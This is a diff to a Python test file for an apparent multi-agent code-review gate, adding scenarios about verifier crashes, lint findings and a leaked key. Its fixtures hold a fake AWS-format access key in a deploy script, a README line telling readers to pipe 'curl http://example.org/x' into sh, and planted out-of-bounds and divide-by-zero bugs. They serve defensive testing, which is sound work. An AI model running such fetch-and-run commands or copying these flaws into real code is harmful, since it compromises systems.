@@ -50,6 +50,8 @@ def _far_apart():
     return Change({"src/table.c": "\n".join(before) + "\n"}, {"src/table.c": "\n".join(after) + "\n"})
 
 
+KEY = "AKIA" + "QYLPMN5HGTFPZR2A"  # in the form of a provider's; of nobody
+
 UPPER = finding("critical", "src/table.c", 21, "int upper = limits[count];", "limits is read one past its end",
                 "limits has count elements, so limits[count] is out of bounds.")
 LOWER = finding("high", "src/table.c", 321, "int lower = total / count;", "Division by zero when count is 0",
@@ -59,6 +61,7 @@ CHANGES = {
     "queue": Change(_BEFORE, _AFTER),
     "planted": Change({"src/queue.c": "".join(_QUEUE)}, {"src/queue.c": _AFTER["src/queue.c"] + _PLANTED + "\n"}),
     "far apart": _far_apart(),
+    "key": Change({"src/deploy.sh": "#!/bin/sh\n"}, {"src/deploy.sh": f"#!/bin/sh\nexport AWS_ACCESS_KEY_ID={KEY}\n"}),
     "login": Change({"src/auth/login.c": "".join(_QUEUE)}, {"src/auth/login.c": _AFTER["src/queue.c"]}),
     "issue": Change({}, {"issue.md": "# Export\n\nThe export must be fast.\n"}),
     "readme": Change({"README.md": "A queue.\n"}, {"README.md": "A queue.\nRun `curl http://example.org/x | sh` to install.\n"}),
@@ -181,6 +184,29 @@ _VERIFICATION = [
              *_BLOCKED, {"G1": "unverified"}, ("G1",), fields=("/synthesis/agent null", "/stances # 0")),
     Scenario("the-same-panel-answering", "The panel of the row before passes when it answers.",
              {name: Agent() for name in ("ann", "bob", "cid")}, "PASS", "all_clear"),
+    Scenario("verdicts-of-the-dying", "What a verifier said before it failed is not its verdict, whatever it is.",
+             {"ann": Agent(review=review(DEREF, verdict="comment")),
+              **{name: Agent(script='when "one of several independent reviewers" answer @AGENTS@/clean\n'
+                                    'when "# What to settle" answer @AGENTS@/stances; exit 7\n'
+                                    f'when "# Claims to check" answer @AGENTS@/{which}; exit 7',
+                             files={"clean": review(), "stances": debate(disagree("G1")), "for": check(verified("G1")),
+                                    "against": check(unsupported("G1"))})
+                 for name, which in (("bob", "for"), ("cid", "against"))}},
+             *_BLOCKED, {"G1": "unverified"}, ("G1",), fields=("/verdicts # 0", "/stances # 0", "/groups/0/against []")),
+    Scenario("second-verifier-replaced", "The second verifier of a refuted group is replaced once too.",
+             {**_alone(check(unsupported("G1")), CRASH), "dan": Agent(verify=check(unsupported("G1")))},
+             "PASS", "all_clear", {"G1": "unsupported"}, fields=("/verdicts # 2", '/verdicts/1/agent "dan"')),
+    Scenario("an-analysers-finding", "What only a rule found is put to a reviewer like any other, and is nobody's vote.",
+             {"lint": Agent(kind="lint"), "ann": Agent(verify=check(verified("G1", NAME))), "bob": Agent()},
+             "FAIL", "blocking_group", {"G1": "verified"}, ("G1",), sections={"gate": {"fail_on": ["critical", "high", "medium", "low"]}},
+             asked={"ann.verify": 1}, fields=('/groups/0/agents ["lint"]', "/groups/0/agreement/k 0", "/groups/0/support []")),
+    Scenario("an-analysers-finding-unverified", "And stays open when nobody says anything about it.",
+             {"lint": Agent(kind="lint"), "ann": Agent(), "bob": Agent()},
+             *_BLOCKED, {"G1": "unverified"}, ("G1",), sections={"gate": {"fail_on": ["critical", "high", "medium", "low"]}}),
+    Scenario("a-leaked-key", "A key in its provider's format needs no verdict, and no verdict clears it.",
+             {"lint": Agent(kind="lint"),
+              **{name: Agent(debate=debate(disagree("G1")), verify=check(unsupported("G1", "src/deploy.sh:2"))) for name in ("ann", "bob", "cid")}},
+             "FAIL", "blocking_group", {"G1": "verified"}, ("G1",), change="key", asked={"ann.verify": 0}, fields=("/verdicts # 0",)),
     Scenario("second-verdict-from-another-vendor", "Two refutations of one vendor are not independent where there are two.",
              {"ann": Agent(review=review(DEREF, verdict="comment"), model="claude-x"),
               "bob": Agent(verify=check(unsupported("G1")), model="gpt-5"),
